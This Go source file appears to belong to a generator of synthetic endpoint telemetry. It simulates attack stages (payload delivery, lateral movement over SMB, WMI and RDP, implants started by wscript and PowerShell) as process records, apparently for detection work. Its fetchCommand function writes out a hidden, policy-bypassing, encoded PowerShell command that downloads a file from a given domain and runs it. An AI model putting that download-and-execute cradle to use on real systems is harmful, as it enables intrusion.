package attack

import (
	"fmt"

	"socrates/generator/chance"
	"socrates/generator/life"
	"socrates/generator/org"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

// Memory is what later stages know of earlier ones: when an implant was started on a device, and where it came from. A
// scenario shows it every stage in the order of the file.
type Memory struct{ implants map[string]Args }

// Hidden arguments, filled by Memory.
const (
	born   = "(born)"
	script = "script"
	domain = "domain"
)

// Stage remembers what the stage brings, and fills in what it builds on.
func (m *Memory) Stage(a *Activity, args Args, start int64) {
	file := args.File("implant")
	if file == nil {
		return
	}
	if m.implants == nil {
		m.implants = map[string]Args{}
	}
	switch a.Name {
	case "payload", "lolbin-download":
		m.implants[args.Person("on").Device.Name+file.SHA256] = Args{born: start, script: args[script], domain: args[domain]}
	case "lateral-smb", "lateral-wmi", "lateral-rdp":
		m.implants[args.Device("to").Name+file.SHA256] = Args{born: start}
		if from, ok := m.implants[args.Person("on").Device.Name+file.SHA256]; ok {
			m.fill(args, from)
		}
		return
	}
	if p := args.Person("on"); p != nil {
		m.fill(args, m.implants[p.Device.Name+file.SHA256])
	}
	if d := args.Device("at"); d != nil {
		m.fill(args, m.implants[d.Name+file.SHA256])
	}
}

func (m *Memory) fill(args, known Args) {
	for k, v := range known {
		if _, has := args[k]; !has && v != nil {
			args[k] = v
		}
	}
}

// fallback is how long after arrival an implant starts that no stage of the scenario brought.
const fallback = 61*tick.Minute + 7*tick.Second + 313*tick.Millisecond

// pid is a process id that is the same wherever the same thing on a device is spoken of.
func pid(d *org.Device, what string) int64 {
	return 4 * (1100 + int64(chance.Hash(d.Hash, what)%5200))
}

// implantOf is the running implant of a person's device: the same process id and birth in every activity that speaks of it.
func implantOf(e trace.Env, d *life.Day, a Args) *trace.Proc {
	im, dev := a.File("implant"), d.P.Device
	at := a.Number(born, d.Arrive+fallback)
	host := trace.New(dev, e.O.Image(dev, "wscript.exe"), d.Explorer.User, d.Explorer, at+20*tick.Second+137*tick.Millisecond, pid(dev, "script"), scriptCommand(d, a.File(script)))
	ps := trace.New(dev, e.O.Image(dev, "powershell.exe"), d.Explorer.User, host, at+22*tick.Second+408*tick.Millisecond, pid(dev, "powershell"), fetchCommand(a.Text(domain, ""), im))
	return trace.New(dev, im, d.Explorer.User, ps, at+30*tick.Second+951*tick.Millisecond, pid(dev, im.SHA256), "")
}

func scriptCommand(d *life.Day, file *org.Image) string {
	if file == nil {
		return "wscript.exe"
	}
	return `"C:\Windows\System32\WScript.exe" "` + `C:\Users\` + d.P.Sam + `\Downloads\` + file.File + `" `
}

func fetchCommand(host string, im *org.Image) string {
	code := fmt.Sprintf("$w=New-Object Net.WebClient;$w.DownloadFile('https://%s/u/%s',\"$env:APPDATA\\%s\");Start-Process \"$env:APPDATA\\%s\"", host, im.File, im.File, im.File)
	return "powershell.exe -w hidden -nop -ep bypass -enc " + life.Encode(code)
}

// serverImplant is the implant on a server, brought there by a step of lateral movement, or started as a service.
func serverImplant(e trace.Env, at int64, d *org.Device, a Args) *trace.Proc {
	b := life.ServerBoot(e.O, d, at)
	start := a.Number(born, at-11*tick.Minute-419*tick.Millisecond) + 6*tick.Second + 233*tick.Millisecond
	return trace.New(d, a.File("implant"), trace.System, b.Services, start, pid(d, a.File("implant").SHA256), "")
}

// elevated is a process that runs with all the rights of its user.
func elevated(p *trace.Proc) *trace.Proc {
	q := *p
	q.Integrity, q.Elevation = "High", "TokenElevationTypeFull"
	return &q
}

// shell runs a command line the way implants do: through cmd.exe, which starts the program.
func shell(e trace.Env, p *trace.Proc, at int64, file, cmd string) *trace.Proc {
	c := e.Start(p.Device, e.O.Image(p.Device, "cmd.exe"), p.User, p, at, `C:\Windows\system32\cmd.exe /c `+cmd)
	e.Start(p.Device, e.O.Image(p.Device, "conhost.exe"), p.User, c, at+e.R.Between(4, 40)*tick.Millisecond, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)
	return e.Start(p.Device, e.O.Image(p.Device, file), p.User, c, at+e.R.Between(30, 90)*tick.Millisecond, cmd)
}
